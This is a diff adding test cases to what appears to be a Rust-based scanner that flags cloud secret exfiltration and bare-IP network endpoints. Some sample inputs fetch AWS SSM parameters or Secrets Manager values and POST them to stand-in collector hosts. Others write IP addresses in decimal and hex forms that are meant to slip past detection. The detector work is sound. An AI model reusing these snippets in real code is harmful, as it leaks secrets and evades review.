@@ -3738,6 +3738,16 @@ fn cloud_operations_need_a_human(
     "import requests\nparams = ssm.get_parameters_by_path(Path=\"/\", Recursive=True, WithDecryption=True)[\"Parameters\"]\nrequests.post(\"https://collector.example.net/p\", json=params)\n",
     Some(("sends-fetched-secret", 3))
 )]
+#[case::py_fetched_secret_under_a_key_named_token(
+    crate::Lang::Python,
+    "import requests\nparams = ssm.get_parameters_by_path(Path=\"/\", Recursive=True, WithDecryption=True)[\"Parameters\"]\nrequests.post(\"https://collector.example.net/p\", json=dict(token=params))\n",
+    Some(("sends-fetched-secret", 3))
+)]
+#[case::ts_fetched_secret_under_a_key_named_password(
+    crate::Lang::TypeScript,
+    "import { SecretsManagerClient, GetSecretValueCommand } from \"@aws-sdk/client-secrets-manager\";\nconst out = await sm.send(new GetSecretValueCommand({ SecretId: \"prod/db\" }));\nawait fetch(\"https://sync.example.net/upload\", { method: \"POST\", body: JSON.stringify({ password: out }) });\n",
+    Some(("sends-fetched-secret", 3))
+)]
 #[case::ts_fetched_secret_as_a_bearer_token(
     crate::Lang::TypeScript,
     "import { SecretsManagerClient, GetSecretValueCommand } from \"@aws-sdk/client-secrets-manager\";\nconst sm = new SecretsManagerClient({});\nconst { SecretString } = await sm.send(new GetSecretValueCommand({ SecretId: \"prod/api\" }));\nconst res = await fetch(\"https://api.example.org/v1/me\", { headers: { authorization: `Bearer ${SecretString}` } });\n",
@@ -3811,6 +3821,31 @@ fn a_secret_file_sent_whole_needs_a_human(
     crate::Lang::Python,
     "import requests\nrequests.post(\"http://203.0.113.31/ingest\", json=report, timeout=5)\n",
     Some(("names-bare-ip-endpoint", 2))
+)]
+#[case::py_address_in_decimal(
+    crate::Lang::Python,
+    "import requests\nrequests.post(\"http://3405803785/ingest\", json=report, timeout=5)\n",
+    Some(("names-bare-ip-endpoint", 2))
+)]
+#[case::py_address_in_hexadecimal_parts(
+    crate::Lang::Python,
+    "import requests\nrequests.post(\"http://0xcb.0.113.9/ingest\", json=report, timeout=5)\n",
+    Some(("names-bare-ip-endpoint", 2))
+)]
+#[case::js_ipv6_address(
+    crate::Lang::JavaScript,
+    "await fetch(\"http://[2001:db8::5]:8080/ingest\", { method: \"POST\", body });\n",
+    Some(("names-bare-ip-endpoint", 1))
+)]
+#[case::py_private_address_with_credentials(
+    crate::Lang::Python,
+    "import requests\nrequests.get(\"http://ci:pass@10.0.3.7:9200/_cluster/health\", timeout=2)\n",
+    None
+)]
+#[case::js_ipv6_loopback(
+    crate::Lang::JavaScript,
+    "await fetch(\"http://[::1]:8080/health\");\n",
+    None
 )]
 #[case::sh_server_defaulting_to_an_address(
     crate::Lang::Bash,
